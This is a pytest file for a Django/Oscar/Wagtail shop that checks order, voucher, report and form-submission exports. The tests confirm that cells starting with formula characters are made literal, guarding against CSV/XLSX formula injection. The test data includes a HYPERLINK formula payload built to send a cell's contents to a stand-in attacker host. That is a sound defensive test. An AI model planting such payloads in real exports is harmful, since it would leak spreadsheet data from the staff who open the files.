"""Every CSV and XLSX the project produces, Oscar's and Wagtail's exports included, makes typed text inert.

A name typed at checkout or at registration such as ``=HYPERLINK(...)`` must reach the staff's
spreadsheet as text, never as a live formula: each cell starting with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return gets a leading apostrophe (marketplace.core.spreadsheets, also used by the minutes XLSX
and the expiring-certificates CSV, whose tests are beside theirs). Wagtail's reports, listing and form
submission exports go through the same helper (marketplace.core.spreadsheets.wagtail_exports_spreadsheet_safe).
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from django.utils.functional import lazy
from openpyxl import load_workbook
from oscar.core.loading import get_model
from wagtail.contrib.forms.models import FormSubmission
from wagtail.contrib.forms.views import SubmissionsListView
from wagtail.models import Site

from marketplace.core.spreadsheets import SpreadsheetSafeCSVWriter, spreadsheet_cell
from marketplace.shop.dashboard.orders.views import OrderListView
from tests.factories import UserFactory
from tests.functional.shop import Shopper

pytestmark = pytest.mark.django_db

Voucher = get_model("voucher", "Voucher")
VoucherSet = get_model("voucher", "VoucherSet")

HYPERLINK = '=HYPERLINK("https://lua-dao.example/?d="&A1,"Xem đơn")'


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("Nem chua Thanh Hóa", "Nem chua Thanh Hóa"),
        ("a=1", "a=1"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),  # numbers stay numbers
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_that_could_start_a_formula_is_made_literal(typed, cell):
    assert spreadsheet_cell(typed) == cell


def test_lazy_translated_text_is_a_cell_too():
    assert spreadsheet_cell(lazy(lambda: "=1+2", str)()) == "'=1+2"


def test_the_csv_writer_passes_every_cell_through_the_helper():
    buffer = io.StringIO()
    SpreadsheetSafeCSVWriter(buffer).writerows([["=1+2", 5, "@x"], ["\rCR", "ok", None]])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
        ["'=1+2", "5", "'@x"], ["'\rCR", "ok", ""],
    ]


def _rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def order_by_a_formula(product):
    """An order placed by a registered customer whose name and delivery name are formulas."""
    customer = UserFactory(first_name=HYPERLINK, last_name="", email="khach@example.vn")
    shopper = Shopper()
    shopper.client.force_login(customer)
    shopper.add_to_basket(product)
    preview = shopper.checkout_to_preview(guest_email=None, first_name=HYPERLINK)
    assert shopper.submit_order(preview).status_code == 302
    return customer


def test_oscar_orders_csv_has_no_live_formula(staff_client, order_by_a_formula):
    response = staff_client.get("/shop/dashboard/orders/", {"response_format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # Excel reads the accents
    header, row = _rows(response)
    assert len(header) == 8
    columns = dict(zip(OrderListView.CSV_COLUMNS, row, strict=True))  # the header is translated
    assert columns["shipping_address_name"] == "'" + HYPERLINK
    assert columns["customer"] == "khach@example.vn"


def test_oscar_order_report_csv_has_no_live_formula(staff_client, order_by_a_formula):
    response = staff_client.get(
        "/shop/dashboard/reports/", {"report_type": "order_report", "date_from": "", "date_to": "", "download": "true"},
    )

    assert response.status_code == 200
    header, row = _rows(response)
    assert row[1] == "'" + HYPERLINK
    assert row[2] == "khach@example.vn"


def test_oscar_voucher_set_csv_has_no_live_formula(staff_client):
    start = timezone.now()
    end = start + datetime.timedelta(days=30)
    voucher_set = VoucherSet.objects.create(name="Tết 2027", count=0, code_length=12, start_datetime=start,
                                            end_datetime=end)
    Voucher.objects.create(name="Tết", code="=1+2", voucher_set=voucher_set, start_datetime=start, end_datetime=end)

    response = staff_client.get(f"/shop/dashboard/vouchers/sets/download/{voucher_set.pk}/")

    assert response.status_code == 200
    assert _rows(response) == [["'=1+2"]]


def _xlsx_rows(content: bytes) -> list[list]:
    """Every row of the first sheet as (value, data_type) pairs."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def page_titled_with_a_formula():
    """The home page renamed to a formula by an editor and published: it is in the reports and the history."""
    editor = UserFactory(is_staff=True, is_superuser=True, username="+84912345678", first_name="@SUM(A1:A9)",
                         last_name="")
    page = Site.objects.get(is_default_site=True).root_page.specific
    page.title = HYPERLINK
    page.save_revision(user=editor).publish(user=editor)
    return page


@pytest.mark.parametrize("report", ["/cms/reports/aging-pages/", "/cms/reports/site-history/"])
def test_wagtail_report_csv_has_no_live_formula(staff_client, page_titled_with_a_formula, report):
    response = staff_client.get(report, {"export": "csv"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_wagtail_aging_pages_csv_row_is_exact(staff_client, page_titled_with_a_formula):
    response = staff_client.get("/cms/reports/aging-pages/", {"export": "csv"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert len(rows) == 2
    title, _status, _published_at, published_by, _type = rows[1]
    assert (title, published_by) == ("'" + HYPERLINK, "'+84912345678")


@pytest.mark.parametrize("report", ["/cms/reports/aging-pages/", "/cms/reports/site-history/"])
def test_wagtail_report_xlsx_has_no_live_formula(staff_client, page_titled_with_a_formula, report):
    response = staff_client.get(report, {"export": "xlsx"})

    assert response.status_code == 200
    rows = _xlsx_rows(b"".join(response.streaming_content))
    cells = [cell for row in rows[1:] for cell in row]
    assert ("'" + HYPERLINK, "s") in cells
    assert not [cell for row in rows for cell in row if cell[1] == "f"]
    assert not [value for row in rows for value, _type in row if str(value).startswith(("=", "+", "-", "@"))]


def test_wagtail_form_submissions_export_has_no_live_formula(page_titled_with_a_formula):
    # given two submissions of a form typed by the public, one a formula, and a form label set by an editor
    submissions = [
        FormSubmission(page=page_titled_with_a_formula, form_data={"ho_ten": "-2+3", "loi_nhan": "Xin chào"}),
        FormSubmission(page=page_titled_with_a_formula, form_data={"ho_ten": "Lê Thị Hoa", "loi_nhan": HYPERLINK}),
    ]
    view = SubmissionsListView()
    view.list_export = ["ho_ten", "loi_nhan"]
    view.export_headings = {"ho_ten": "Họ tên", "loi_nhan": "=Lời nhắn"}

    # when Wagtail writes them as CSV and as XLSX
    csv_text = b"".join(view.stream_csv(submissions)).decode()
    xlsx = io.BytesIO()
    view.write_xlsx(submissions, xlsx)

    # then every typed formula, and the label, is literal text
    assert list(csv.reader(io.StringIO(csv_text, newline=""))) == [
        ["Họ tên", "'=Lời nhắn"], ["'-2+3", "Xin chào"], ["Lê Thị Hoa", "'" + HYPERLINK],
    ]
    assert _xlsx_rows(xlsx.getvalue()) == [
        [("Họ tên", "s"), ("'=Lời nhắn", "s")],
        [("'-2+3", "s"), ("Xin chào", "s")],
        [("Lê Thị Hoa", "s"), ("'" + HYPERLINK, "s")],
    ]
